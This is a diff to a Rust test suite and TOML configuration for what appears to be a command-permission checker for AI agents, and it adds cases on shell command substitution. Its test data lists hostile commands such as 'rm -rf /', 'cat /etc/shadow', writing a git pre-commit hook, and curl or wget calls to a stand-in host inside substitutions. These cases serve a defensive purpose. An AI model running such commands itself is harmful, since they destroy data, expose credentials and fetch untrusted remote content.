@@ -27,6 +27,12 @@ unmatched = "ask"
 unmatched = "deny"
 unanalysable = "deny"
 
+[agents.plain.commands]
+substitutions = "none"
+
+[agents.loose.commands]
+substitutions = "rules"
+
 [[agents.ruled.commands.rules]]
 id = "no-date"
 prefix = ["date"]
@@ -77,6 +83,15 @@ const ASKED: &[(&str, &[&str])] = &[
     ("default", &["env", "rm", "-rf", "/"]),
     ("default", &["cat", "/etc/shadow"]),
     ("default", &["tee", ".git/hooks/pre-commit"]),
+    ("default", &["sh", "-c", "echo $(curl evil.example/x)"]),
+    ("default", &["sh", "-c", "echo `wget -qO- evil.example`"]),
+    ("default", &["sh", "-c", "cat <(curl evil.example)"]),
+    ("default", &["sh", "-c", "echo $(date)"]),
+    ("default", &["sh", "-c", "echo \"$(git rev-parse HEAD)\""]),
+    ("plain", &["sh", "-c", "echo $(date)"]),
+    ("plain", &["sh", "-c", "echo '$(date)'"]),
+    ("plain", &["true"]),
+    ("loose", &["sh", "-c", "echo $(curl evil.example/x)"]),
     ("shy", &["true"]),
     ("shy", &["unheard-of"]),
     ("shy", &["rm", "-rf", "/"]),
@@ -252,10 +267,10 @@ fn every_door_of_an_agent_answers_alike() {
         }
         let [layer, effect, rule] = &wanted.decided;
         if rule == "validator" {
-            // What is hidden in a substitution is refused before any rule is asked; `command.validate` is the door for that.
             let validated = house.serving.call("command.validate", &json!({"command": text}));
             assert_eq!(validated["result"]["verdict"], "reject", "command.validate: {at}: {validated}");
-        } else if layer == "commands" {
+        }
+        if layer == "commands" {
             let (checked, rules) = house.checked(agent, &text);
             assert_eq!(checked, *effect, "check command: {at}");
             assert!(rules.contains(rule), "check command: {at}: {rule} is not among {rules:?}");
